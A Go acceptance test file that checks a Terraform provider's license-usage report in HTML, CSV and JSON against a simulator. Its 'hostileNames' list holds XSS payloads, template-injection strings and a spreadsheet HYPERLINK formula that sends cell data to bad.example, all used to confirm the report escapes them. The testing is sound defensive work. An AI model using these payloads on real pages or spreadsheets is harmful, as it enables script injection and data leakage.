// Copyright (c) The terraform-provider-atlassian authors
// SPDX-License-Identifier: MPL-2.0

package examples

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/orgadmin/terraform-provider-atlassian/internal/acctest"
	"github.com/orgadmin/terraform-provider-atlassian/internal/simulator"
)

const (
	reportFolder = "reports/license-usage"
	reportDays   = 90
	// slowestAllowed is the limit, in milliseconds, for sorting or filtering more than a thousand seats. It takes well
	// under 500 on an idle machine, but a headless browser on a busy machine is slower. The log has the measured time.
	slowestAllowed = 10_000
)

// TestAccLicenseReport applies examples/reports/license-usage and compares the report with the simulator's state. It
// opens the report in a browser if there is one.
func TestAccLicenseReport(t *testing.T) {
	t.Parallel()

	acctest.NeedsCLI(t)

	program := newCLI(t)

	for name, test := range map[string]func(*testing.T, *cli){
		"acme":          reportOfAcme,
		"five seats":    reportOfFiveSeats,
		"many seats":    reportOfManySeats,
		"no app":        reportWithoutApps,
		"all used":      reportWithoutUnusedSeats,
		"wrong numbers": reportWithBadInput,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			test(t, program)
		})
	}
}

// report is one run of the example.
type report struct {
	dir    string
	output string
}

// makeReport applies the example and writes its three files.
func makeReport(t *testing.T, c *cli, env *acctest.Environment, arguments ...string) report {
	t.Helper()

	r, err := applyReport(t, c, env, arguments...)
	if err != nil {
		t.Fatalf("%v\n%s", err, r.output)
	}

	for _, name := range []string{"html", "csv", "json"} {
		content, err := c.command(t.Context(), r.dir, "output", "-raw", "licenses_"+name).Output()
		if err != nil {
			t.Fatalf("output licenses_%s: %v", name, err)
		}

		if err := os.WriteFile(r.path(name), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}

	for _, entry := range env.Simulator.Journal() {
		search := entry.Method == "POST" && (strings.HasSuffix(entry.Path, "/users/search") || strings.HasSuffix(entry.Path, "/workspaces"))
		if entry.Method != "GET" && !search {
			t.Errorf("a report has sent %s %s", entry.Method, entry.Path)
		}
	}

	return r
}

func applyReport(t *testing.T, c *cli, env *acctest.Environment, arguments ...string) (report, error) {
	t.Helper()

	r := report{dir: t.TempDir()}
	if err := os.CopyFS(r.dir, os.DirFS(reportFolder)); err != nil {
		t.Fatal(err)
	}

	command := c.command(t.Context(), r.dir, append([]string{"apply", "-auto-approve", "-input=false", "-no-color"}, arguments...)...)
	credentials := env.Credentials()
	command.Env = append(command.Env, "ATLASSIAN_BASE_URL="+env.Simulator.URL(), "ATLASSIAN_ORG_ID="+credentials.OrgID, "ATLASSIAN_API_KEY="+credentials.APIKey)
	output, err := command.CombinedOutput()
	r.output = string(output)

	return r, err
}

func (r report) path(name string) string { return filepath.Join(r.dir, "licenses."+name) }

// countedApp is a row of the report, counted from the simulator's state.
type countedApp struct {
	Product, Site               string
	Used, Capped, Unused, Never int
	Unknown                     bool // the number of seats is unknown
	Given                       bool // Atlassian reports the number of used seats
	holders                     []simulator.SeatHolder
}

// countApps counts by product and site, in the order of the report.
func countApps(env *acctest.Environment, days int) []countedApp {
	apps := map[string]*countedApp{}

	for _, w := range env.Simulator.Workspaces() {
		if w.Sandbox || w.TypeKey == "jira-admin" || w.TypeKey == "platform" {
			continue
		}

		site, _, _ := strings.Cut(strings.TrimPrefix(w.HostURL, "https://"), "/")
		key := w.TypeKey + " " + site

		app := apps[key]
		if app == nil {
			app = &countedApp{Product: w.TypeName, Site: site}
			apps[key] = app
		}

		inactive, never := env.Simulator.InactiveSeats(w.ID, days)
		app.Used += seatsUsed(env, w)
		app.Given = app.Given || w.TypeKey == "bitbucket"
		app.Unused += inactive + never

		app.Never += never
		if w.Capacity == nil {
			app.Unknown = true
		} else {
			app.Capped += *w.Capacity
		}

		for _, holder := range env.Simulator.SeatHolders(w.ID) {
			if holder.LastActive == nil || time.Since(*holder.LastActive) >= time.Duration(days)*24*time.Hour {
				app.holders = append(app.holders, holder)
			}
		}
	}

	counted := make([]countedApp, 0, len(apps))
	for _, app := range apps {
		if app.Unknown {
			app.Capped = 0
		}

		counted = append(counted, *app)
	}

	slices.SortFunc(counted, func(a, b countedApp) int { return strings.Compare(a.Product+"\x00"+a.Site, b.Product+"\x00"+b.Site) })

	return counted
}

// seatsUsed returns the number that the report shows: Atlassian's own number if it gives one, as for Bitbucket.
func seatsUsed(env *acctest.Environment, w simulator.Workspace) int {
	if w.TypeKey == "bitbucket" && w.Usage != nil {
		return *w.Usage
	}

	return env.Simulator.SeatCount(w.ID)
}

// seatsOf returns the unused seats as the first six columns of the table, sorted.
func seatsOf(apps []countedApp) []string {
	var seats []string

	for _, app := range apps {
		for _, holder := range app.holders {
			active := "Never"
			if holder.LastActive != nil {
				active = holder.LastActive.UTC().Format(time.DateOnly)
			}

			seats = append(seats, strings.Join([]string{shownName(holder.Name), holder.Email, app.Product, app.Site, strings.TrimPrefix(holder.Role, "atlassian/"), active}, "|"))
		}
	}

	slices.Sort(seats)

	return seats
}

// shownName returns a name as the page shows it.
func shownName(name string) string { return strings.TrimSpace(strings.ReplaceAll(name, "\r\n", "\n")) }

func joined(rows [][]string) []string {
	seats := make([]string, 0, len(rows))
	for _, row := range rows {
		seats = append(seats, strings.Join(row[:6], "|"))
	}

	return seats
}

func sorted(texts []string) []string {
	texts = slices.Clone(texts)
	slices.Sort(texts)

	return texts
}

// hostileNames are names that a page, a table or a template might interpret as code.
var hostileNames = []string{
	`<script>hacked = parent.hacked = true</script>`, `</script></table><script>parent.hacked = true</script>`,
	`"><img src="x" onerror="parent.hacked = true">`, `'><svg onload='parent.hacked=true'>`, `&lt;b&gt; &amp; &quot;`,
	`\u003cimg src=x\u003e \\u003c \" \\`, `$${name} %%{ if true } ${name}`, `=HYPERLINK("https://bad.example?"&A1,"x")`, `+1+1`, `-2+3`, `@SUM(A1)`,
	"\tTab", "Two\r\nlines, \"quoted\"", `Łukasz "Kuba" O’Brien`, "\u202eright to left", `<!--`, `]]>`,
}

func reportOfAcme(t *testing.T, c *cli) {
	env := acctest.Start(t, acctest.World("acme"))

	// Add a second Bitbucket workspace. It has no site either, and more users than seats.
	jira, bitbucket := "", ""

	for _, w := range env.Simulator.Workspaces() {
		switch {
		case w.TypeKey == "bitbucket":
			bitbucket = w.ID
		case w.TypeKey == "jira-software" && w.HostURL == "https://acme.atlassian.net":
			jira = w.ID
		}
	}

	env.Simulator.AddWorkspace(simulator.Workspace{
		ID: "ari:cloud:bitbucket::workspace/{second}", TypeKey: "bitbucket", TypeName: "Bitbucket", Status: "online", HostURL: "https://bitbucket.org/acme-more", Capacity: new(int),
	})
	env.Simulator.SeedAccounts(len(hostileNames)*2, simulator.AccountSeed{Workspaces: []string{"ari:cloud:bitbucket::workspace/{second}", bitbucket}})

	for i, holder := range env.Simulator.SeatHolders(jira) {
		if i < 20 {
			env.Simulator.SetAccount(holder.AccountID, func(a *simulator.Account) { a.LastActive = nil })
		}
	}

	for i, holder := range env.Simulator.SeatHolders("ari:cloud:bitbucket::workspace/{second}") {
		env.Simulator.SetAccount(holder.AccountID, func(a *simulator.Account) {
			a.Name = hostileNames[i%len(hostileNames)]
			a.EmailHidden = i%5 == 4
		})
	}

	report := makeReport(t, c, env, "-var", `cost_per_seat={"jira"=7.91,"confluence"=6.05,"bitbucket"=3.3}`, "-var", "currency=EUR", "-var", "report_date=2026-03-09")
	apps := countApps(env, reportDays)
	prices := map[string]float64{"Jira": 7.91, "Confluence": 6.05, "Bitbucket": 3.3}

	t.Run("checks", func(t *testing.T) {
		t.Parallel()

		for _, want := range []string{"- Jira on acme.atlassian.net: 41 of 45", "- Confluence on acme-labs.atlassian.net: all 5 seats unused"} {
			if !strings.Contains(report.output, want) {
				t.Errorf("no warning %q in:\n%s", want, report.output)
			}
		}

		if strings.Contains(report.output, "Compass") || strings.Contains(report.output, "@acme.test") {
			t.Errorf("too much is said in:\n%s", report.output)
		}
	})

	t.Run("json", func(t *testing.T) {
		t.Parallel()

		compareJSON(t, report, env)
	})

	t.Run("csv", func(t *testing.T) {
		t.Parallel()

		compareCSV(t, report, apps)
	})

	t.Run("accessible", func(t *testing.T) {
		t.Parallel()

		checkAccessibility(t, report.path("html"))
	})

	t.Run("paper", func(t *testing.T) {
		t.Parallel()

		pages, text := printToPDF(t, report.path("html"))
		if pages < 3 || pages > 12 {
			t.Errorf("on paper the report has %d pages", pages)
		}
		// Each page of a table must begin with its headings.
		if text != "" && (strings.Count(text, "Last active") < 2 || strings.Count(text, "Last active")+strings.Count(text, "Used of total") < pages-1) {
			t.Errorf("on %d pages the headings are there %d and %d times", pages, strings.Count(text, "Used of total"), strings.Count(text, "Last active"))
		}
	})

	t.Run("html", func(t *testing.T) {
		t.Parallel()

		seen := browse(t, report.path("html"),
			filter{Text: "<SCRIPT>"}, filter{Text: "acme greta"}, filter{Product: "Confluence", Never: true}, filter{Text: "nobody has this name"}, filter{})
		examine(t, seen, apps, prices)

		if seen.Title != "Licenses of Acme, 2026-03-09" || seen.Heading != "Acme" {
			t.Errorf("title %q, heading %q", seen.Title, seen.Heading)
		}

		if !strings.HasPrefix(seen.Money, "€") {
			t.Errorf("money is shown as %q", seen.Money)
		}

		want := sorted(seatsOf(apps))

		containing := func(parts ...string) []string {
			return slices.DeleteFunc(slices.Clone(want), func(seat string) bool {
				return slices.ContainsFunc(parts, func(part string) bool { return !strings.Contains(strings.ToLower(seat), part) })
			})
		}
		for i, want := range [][]string{containing("<script>"), containing("acme", "greta"), containing("|confluence|", "|never"), {}, want} {
			if diff := cmp.Diff(sorted(want), sorted(joined(seen.rows(seen.Filters[i].Rows)))); diff != "" {
				t.Errorf("filter %d: %s", i, diff)
			}

			if i != 3 && len(want) == 0 {
				t.Errorf("filter %d selects nothing: no test", i)
			}

			if seen.Filters[i].None != (len(want) == 0) || !strings.HasPrefix(seen.Filters[i].Status, strconv.Itoa(len(want))+" of ") {
				t.Errorf("filter %d says %q", i, seen.Filters[i].Status)
			}
		}
	})
}

func reportOfFiveSeats(t *testing.T, c *cli) {
	env := acctest.Start(t)
	env.Simulator.AddWorkspace(simulator.Workspace{
		ID: "ari:cloud:confluence::site/1", TypeKey: "confluence", TypeName: "Confluence", Status: "online", HostURL: "https://corp.atlassian.net/wiki", Capacity: new(10),
	})
	people := env.Simulator.SeedAccounts(5, simulator.AccountSeed{Workspaces: []string{"ari:cloud:confluence::site/1"}})
	// An app counts as idle only if Atlassian records activity for it, so record some that is too old.
	env.Simulator.SetAccount(people[0], func(a *simulator.Account) {
		a.LastActive["ari:cloud:confluence::site/1"] = time.Now().AddDate(0, 0, -200)
	})

	report := makeReport(t, c, env)
	if !strings.Contains(report.output, "all 5 seats unused") || strings.Contains(report.output, "90 % of the seats") {
		t.Errorf("warnings are:\n%s", report.output)
	}

	seen := browse(t, report.path("html"))
	examine(t, seen, countApps(env, reportDays), nil)

	if seen.Money != "" || len(seen.Initial[0]) != 6 {
		t.Errorf("without prices the report shows %q and rows of %d columns", seen.Money, len(seen.Initial[0]))
	}
}

func reportOfManySeats(t *testing.T, c *cli) {
	// ATLASSIAN_REPORT_SEATS=20000 asks for twenty thousand.
	least := acctest.Size(t, "ATLASSIAN_REPORT_SEATS", 1000)

	env := acctest.Start(t)
	apps := []string{"ari:cloud:jira-software::site/1", "ari:cloud:confluence::site/1"}
	env.Simulator.AddWorkspace(simulator.Workspace{ID: apps[0], TypeKey: "jira-software", TypeName: "Jira", Status: "online", HostURL: "https://corp.atlassian.net", Capacity: new(4000)})
	env.Simulator.AddWorkspace(simulator.Workspace{ID: apps[1], TypeKey: "confluence", TypeName: "Confluence", Status: "online", HostURL: "https://more.atlassian.net/wiki"})
	env.Simulator.SeedAccounts(least*8/10, simulator.AccountSeed{Workspaces: apps, Active: true})

	report := makeReport(t, c, env, "-var", `cost_per_seat={"jira-software"=1007.91,"confluence"=6.05}`)
	counted := countApps(env, reportDays)

	seen := browse(t, report.path("html"), filter{Text: "member0001"}, filter{Product: "Jira"}, filter{Never: true}, filter{})
	if len(seen.Initial) < least || seen.First != 100 {
		t.Errorf("%d seats, %d shown at first", len(seen.Initial), seen.First)
	}

	examine(t, seen, counted, map[string]float64{"Jira": 1007.91, "Confluence": 6.05})

	// The print has two pages of summary, not a hundred pages of names.
	if pages, text := printToPDF(t, report.path("html")); pages > 2 || text != "" && !strings.Contains(text, "too many lines for paper") {
		t.Errorf("on paper %d seats have %d pages:\n%s", len(seen.Initial), pages, text)
	}

	slowest := 0.0
	for _, s := range seen.Sorts {
		slowest = max(slowest, s.Milliseconds)
	}

	for _, f := range seen.Filters {
		slowest = max(slowest, f.Milliseconds)
	}

	t.Logf("%d seats: the slowest of %d sorts and %d filters took %.0f ms", len(seen.Initial), len(seen.Sorts), len(seen.Filters), slowest)

	if slowest > slowestAllowed {
		t.Errorf("sorting or filtering %d seats takes %.0f ms", len(seen.Initial), slowest)
	}
}

func reportWithoutApps(t *testing.T, c *cli) {
	env := acctest.Start(t)

	report := makeReport(t, c, env, "-var", `cost_per_seat={}`)
	seen := browse(t, report.path("html"))
	examine(t, seen, nil, map[string]float64{})

	if strings.Contains(report.output, "Warning: Check block") {
		t.Errorf("an organization without apps is warned of:\n%s", report.output)
	}
}

func reportWithoutUnusedSeats(t *testing.T, c *cli) {
	env := acctest.Start(t, acctest.World("acme"))

	report := makeReport(t, c, env, "-var", `product_keys=["jira-software"]`, "-var", "inactive_days=36500", "-var", `exclude_emails=`+neverUsers(t, env))

	seen := browse(t, report.path("html"))
	if len(seen.Apps) != 2 || seen.Figures["unused"] != 0 || len(seen.Initial) != 0 {
		t.Errorf("%d apps, %v unused, %d rows", len(seen.Apps), seen.Figures["unused"], len(seen.Initial))
	}
}

// neverUsers returns the addresses of all accounts as a list for the command line.
func neverUsers(t *testing.T, env *acctest.Environment) string {
	t.Helper()

	var emails []string

	for _, account := range env.Simulator.Accounts() {
		env.Simulator.SetAccount(account.ID, func(a *simulator.Account) { a.EmailHidden = false })
		emails = append(emails, strings.ToUpper(account.Email))
	}

	list, err := json.Marshal(emails)
	if err != nil {
		t.Fatal(err)
	}

	return string(list)
}

func reportWithBadInput(t *testing.T, c *cli) {
	env := acctest.Start(t)

	for argument, want := range map[string]string{
		"inactive_days=0":              "whole number of days",
		"inactive_days=1.5":            "whole number of days",
		"currency=€":                   "ISO 4217",
		"report_date=24.11.2026":       "YYYY-MM-DD",
		`cost_per_seat={jira=-1}`:      "costs a month, 0 or more",
		`cost_per_seat={jira="cheap"}`: "a number is required",
	} {
		report, err := applyReport(t, c, env, "-var", argument)
		if err == nil || !strings.Contains(strings.Join(strings.Fields(report.output), " "), want) {
			t.Errorf("%s: want %q in:\n%s", argument, want, report.output)
		}
	}
}

// examine compares the page with the counts.
func examine(t *testing.T, seen observation, apps []countedApp, prices map[string]float64) {
	t.Helper()

	if seen.Hacked || seen.Scripts != 1 || seen.Foreign != 0 || len(seen.Loaded) != 0 {
		t.Errorf("hacked %t, %d scripts, %d foreign elements, loaded %v", seen.Hacked, seen.Scripts, seen.Foreign, seen.Loaded)
	}

	if seen.Overflow > 0 || seen.Unlabeled > 0 {
		t.Errorf("on a phone the page is %d pixels too wide; %d fields have no label", seen.Overflow, seen.Unlabeled)
	}

	for width, overflow := range seen.Overflows {
		if overflow > 0 {
			t.Errorf("%s pixels wide, the page is %d pixels too wide", width, overflow)
		}
	}

	if len(seen.Overflows) < 10 {
		t.Errorf("the page was looked at in %d widths", len(seen.Overflows))
	}

	want := map[string]float64{"used": 0, "measured": 0, "free": 0, "total": 0, "unused": 0, "never": 0, "inactive": 0, "cost": 0, "all": 0}
	over, unpriced := 0, 0
	shown := slices.Clone(seen.Apps)
	slices.SortFunc(shown, func(a, b shownApp) int { return strings.Compare(a.Product+"\x00"+a.Detail, b.Product+"\x00"+b.Detail) })

	if len(shown) != len(apps) {
		t.Fatalf("%d apps are shown, want %d", len(shown), len(apps))
	}

	for i, app := range apps {
		want["used"] += float64(app.Used)
		want["unused"] += float64(app.Unused)
		want["never"] += float64(app.Never)
		want["inactive"] += float64(app.Unused - app.Never)

		want["cost"] += float64(app.Unused) * prices[app.Product]
		if !app.Unknown {
			want["total"] += float64(app.Capped)
			want["free"] += float64(max(app.Capped-app.Used, 0))
			want["measured"] += float64(app.Used)
			over += max(app.Used-app.Capped, 0)
		}

		price, priced := prices[app.Product]

		want["all"] += float64(app.Used) * price
		if !priced {
			unpriced += app.Used
		}

		examineApp(t, shown[i], app, prices)
	}

	examineFigures(t, seen.Figures, want, float64(over), float64(unpriced), prices != nil)
	examineOrder(t, seen)

	seats := seatsOf(apps)
	if diff := cmp.Diff(seats, sorted(joined(seen.Initial)), cmp.Transformer("empty", func(s []string) []string { return append([]string{}, s...) })); diff != "" {
		t.Errorf("seats: %s", diff)
	}

	if len(seats) > 0 {
		examineSorts(t, seen, len(seats))
		examinePeople(t, seen)
	}
}

// examineFigures compares the figures with the counts, and with each other: they must add up.
func examineFigures(t *testing.T, got, want map[string]float64, over, unpriced float64, money bool) {
	t.Helper()

	want["cost-year"], want["all-year"] = 12*want["cost"], 12*want["all"]

	if !money {
		for _, name := range []string{"cost", "cost-year", "all", "all-year"} {
			delete(want, name)
		}
	}

	for name, value := range map[string]float64{"over": over, "unmeasured": want["used"] - want["measured"]} {
		if _, shown := got[name]; shown || value > 0 {
			want[name] = value
		}
	}

	if money && unpriced > 0 {
		want["unpriced"] = unpriced
	}

	rounded := func(figures map[string]float64) map[string]float64 {
		out := map[string]float64{}
		for name, value := range figures {
			out[name] = math.Round(value*100) / 100
		}

		return out
	}
	if diff := cmp.Diff(rounded(want), rounded(got)); diff != "" {
		t.Errorf("figures: %s", diff)
	}

	if got["total"] != got["measured"]+got["free"]-got["over"] || got["used"] != got["measured"]+got["unmeasured"] || got["unused"] != got["never"]+got["inactive"] {
		t.Errorf("the figures do not add up: %v", got)
	}
}

// examineOrder checks the order of the apps, and each sort of the apps by a column.
func examineOrder(t *testing.T, seen observation) {
	t.Helper()

	if !slices.IsSortedFunc(seen.Apps, func(a, b shownApp) int {
		return strings.Compare(strings.ToLower(a.Product), strings.ToLower(b.Product))
	}) {
		t.Errorf("the apps are not in the order of their names: %v", seen.Apps)
	}

	for _, sort := range seen.AppSorts {
		key := func(value string) float64 {
			number, err := strconv.ParseFloat(value, 64)
			if err != nil {
				return -1 // unknown
			}

			return number
		}
		less := func(a, b string) int {
			if sort.Column == "Product" {
				return strings.Compare(strings.ToLower(a), strings.ToLower(b))
			}

			return int(math.Copysign(1, key(a)-key(b))) * boolToInt(key(a) != key(b))
		}

		values := slices.Clone(sort.Values)
		if sort.Order == "descending" {
			slices.Reverse(values)
		}

		if len(values) != len(seen.Apps) || !slices.IsSortedFunc(values, less) {
			t.Errorf("sorted by %s, %s, the apps are in the order %v", sort.Column, sort.Order, sort.Values)
		}
	}

	if len(seen.Apps) > 0 && len(seen.AppSorts) < 8 {
		t.Errorf("the apps were sorted %d times", len(seen.AppSorts))
	}
}

func boolToInt(b bool) int {
	if b {
		return 1
	}

	return 0
}

// examinePeople compares the table of people, and both downloads, with the table of seats.
func examinePeople(t *testing.T, seen observation) {
	t.Helper()

	sum := 0

	for _, person := range seen.People {
		seats, err := strconv.Atoi(person[3])
		if err != nil {
			t.Errorf("%q is no number of seats", person[3])
		}

		sum += seats
	}

	if sum != len(seen.Initial) || len(seen.People) == 0 || len(seen.People) > len(seen.Initial) || !slices.Equal(seen.Visible, []string{"people"}) {
		t.Errorf("%d people have %d seats, and there are %d; shown are %v", len(seen.People), sum, len(seen.Initial), seen.Visible)
	}

	for text, lines := range map[string]int{seen.CSV: len(seen.Initial), seen.PeopleCSV: len(seen.People)} {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
		if err != nil || len(rows) != lines+1 {
			t.Errorf("the file has %d lines, want %d and one: %v", len(rows), lines, err)
		}

		for _, row := range rows {
			for _, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r\n") == 0 {
					t.Errorf("a spreadsheet takes %q for a formula", cell)
				}
			}
		}
	}
}

func examineApp(t *testing.T, shown shownApp, app countedApp, prices map[string]float64) {
	t.Helper()

	if shown.Product != app.Product || !strings.HasPrefix(shown.Detail, app.Site) || shown.Used != app.Used ||
		shown.Unused != app.Unused || shown.Never != app.Never {
		t.Errorf("got %v, want %v", shown, app)
	}

	var badges []string
	if !app.Unknown && app.Used > app.Capped {
		badges = append(badges, "over the limit")
	} else if !app.Unknown && float64(app.Used) > 0.9*float64(app.Capped) {
		badges = append(badges, "nearly full")
	}

	if app.Used == app.Unused && !app.Given {
		badges = append(badges, "idle")
	}

	if !slices.Equal(badges, shown.Badges) {
		t.Errorf("%s on %s is said to be %q, want %q", app.Product, app.Site, shown.Badges, badges)
	}

	bar := []float64{float64(max(app.Used-app.Unused, 0)), float64(min(app.Unused, app.Used))}
	switch {
	case app.Unknown && (shown.Total != nil || len(shown.Bar) != 0):
		t.Errorf("%s on %s has an unknown number of seats, and shows %v and a bar of %v", app.Product, app.Site, shown.Total, shown.Bar)
	case !app.Unknown && (shown.Total == nil || *shown.Total != app.Capped || !slices.Equal(shown.Bar, bar)):
		t.Errorf("%s on %s shows %v seats and a bar of %v, want %d and %v", app.Product, app.Site, shown.Total, shown.Bar, app.Capped, bar)
	}

	price, priced := prices[app.Product]
	if priced && app.Unused > 0 {
		if shown.Cost == nil || math.Abs(*shown.Cost-price*float64(app.Unused)) > 0.001 {
			t.Errorf("%s on %s costs %v, want %d times %v", app.Product, app.Site, shown.Cost, app.Unused, price)
		}
	} else if shown.Cost != nil {
		t.Errorf("%s on %s has no cost, and shows %v", app.Product, app.Site, *shown.Cost)
	}
}

// examineSorts checks that each column sorts in both directions, loses no seat, and announces its order.
func examineSorts(t *testing.T, seen observation, seats int) {
	t.Helper()

	all := sorted(joined(seen.Initial))
	if len(seen.Sorts) != 2*len(seen.Initial[0]) {
		t.Fatalf("%d sorts of %d columns", len(seen.Sorts), len(seen.Initial[0]))
	}

	for i, sort := range seen.Sorts {
		column := i / 2

		rows := seen.rows(sort.Rows)
		if !slices.Equal(all, sorted(joined(rows))) || len(rows) != seats {
			t.Errorf("sorted by %s, %s, the table has %d other rows", sort.Column, sort.Order, len(rows))
		}

		for j, said := range sort.Said {
			if (said != nil) != (j == column) || said != nil && *said != sort.Order {
				t.Errorf("sorted by %s, %s, column %d says %v", sort.Column, sort.Order, j, said)
			}
		}

		keys := make([]string, 0, len(rows))
		for _, row := range rows {
			keys = append(keys, sortKey(t, sort.Column, row[column]))
		}

		if sort.Order == "descending" {
			slices.Reverse(keys)
		}
		// The browser decides how punctuation and accented letters are ordered.
		plain := !slices.ContainsFunc(keys, func(key string) bool { return strings.ContainsAny(key, "<>=\\\"'&$+\tłŁ\u202e]") })
		if plain && !slices.IsSorted(keys) {
			t.Errorf("sorted by %s, %s, the rows are in the order %.300q", sort.Column, sort.Order, keys)
		}
	}
}

// sortKey returns a text that sorts as the cell of a column must sort.
func sortKey(t *testing.T, column, cell string) string {
	t.Helper()

	switch {
	case column == "Last active" && cell == "Never", column == "A month" && cell == "–":
		return ""
	case column == "A month":
		amount, err := strconv.ParseFloat(strings.ReplaceAll(cell, ",", ""), 64)
		if err != nil {
			t.Errorf("%q is no amount", cell)
		}

		return fmt.Sprintf("%012.2f", amount)
	default:
		return strings.ToLower(cell)
	}
}

func compareJSON(t *testing.T, report report, env *acctest.Environment) {
	t.Helper()

	content, err := os.ReadFile(report.path("json"))
	if err != nil {
		t.Fatal(err)
	}

	var made struct {
		Date           string `json:"date"`
		OrganizationID string `json:"organization_id"`
		Currency       string `json:"currency"`
		Licenses       []struct {
			ID    string `json:"id"`
			Total *int   `json:"seats_total"`
			Used  int    `json:"seats_used"`
		} `json:"licenses"`
		Totals []struct {
			Used int `json:"seats_used"`
		} `json:"totals"`
		Unused struct {
			Seats []struct {
				Name        string `json:"name"`
				NeverActive bool   `json:"never_active"`
			} `json:"seats"`
			ByProduct []struct {
				Seats int `json:"seats"`
			} `json:"by_product"`
			TotalCost float64 `json:"total_cost"`
		} `json:"unused"`
	}
	if err := json.Unmarshal(content, &made); err != nil {
		t.Fatal(err)
	}

	if made.Date != "2026-03-09" || made.OrganizationID != env.Credentials().OrgID || made.Currency != "EUR" || made.Unused.TotalCost <= 0 {
		t.Errorf("got %s, %s, %s and %v", made.Date, made.OrganizationID, made.Currency, made.Unused.TotalCost)
	}

	used, unused := 0, 0

	for _, license := range made.Licenses {
		at := slices.IndexFunc(env.Simulator.Workspaces(), func(w simulator.Workspace) bool { return w.ID == license.ID })
		if want := seatsUsed(env, env.Simulator.Workspaces()[at]); license.Used != want {
			t.Errorf("%s: %d seats used, want %d", license.ID, license.Used, want)
		}

		inactive, never := env.Simulator.InactiveSeats(license.ID, reportDays)
		used += license.Used
		unused += inactive + never
	}

	for _, total := range made.Totals {
		used -= total.Used
	}

	for _, product := range made.Unused.ByProduct {
		unused -= product.Seats
	}

	if used != 0 || unused != 0 || len(made.Licenses) != 12 {
		t.Errorf("%d apps; totals differ by %d, unused seats by %d", len(made.Licenses), used, unused)
	}

	for _, name := range hostileNames {
		if !slices.ContainsFunc(made.Unused.Seats, func(seat struct {
			Name        string `json:"name"`
			NeverActive bool   `json:"never_active"`
		},
		) bool {
			return seat.Name == name && seat.NeverActive
		}) {
			t.Errorf("nobody is called %q", name)
		}
	}
}

func compareCSV(t *testing.T, report report, apps []countedApp) {
	t.Helper()

	content, err := os.ReadFile(report.path("csv"))
	if err != nil {
		t.Fatal(err)
	}

	text, marked := strings.CutPrefix(string(content), "\ufeff")
	if !marked || strings.Count(text, "\r\n") < 10 {
		t.Error("spreadsheets need a byte order mark and CRLF")
	}
	// The CSV reader turns CRLF inside a cell into LF.
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}

	if diff := cmp.Diff([]string{"account_id", "email", "name", "product_key", "product_name", "site_url", "role", "last_active_at", "never_active", "cost"}, rows[0]); diff != "" {
		t.Error(diff)
	}

	var want, got []string

	for _, app := range apps {
		for _, holder := range app.holders {
			name := strings.ReplaceAll(holder.Name, "\r\n", "\n")
			if strings.IndexAny(name, "=+-@\t\r\n") == 0 {
				name = "'" + name
			}

			want = append(want, strings.Join([]string{holder.AccountID, holder.Email, name, app.Product, "https://" + app.Site, strconv.FormatBool(holder.LastActive == nil)}, "|"))
		}
	}

	for _, row := range rows[1:] {
		got = append(got, strings.Join([]string{row[0], row[1], row[2], row[4], row[5], row[8]}, "|"))
		for _, cell := range row {
			if strings.IndexAny(cell, "=+-@\t\r\n") == 0 {
				t.Errorf("a spreadsheet takes %q for a formula", cell)
			}
		}
	}

	if diff := cmp.Diff(sorted(want), sorted(got)); diff != "" {
		t.Error(diff)
	}
}
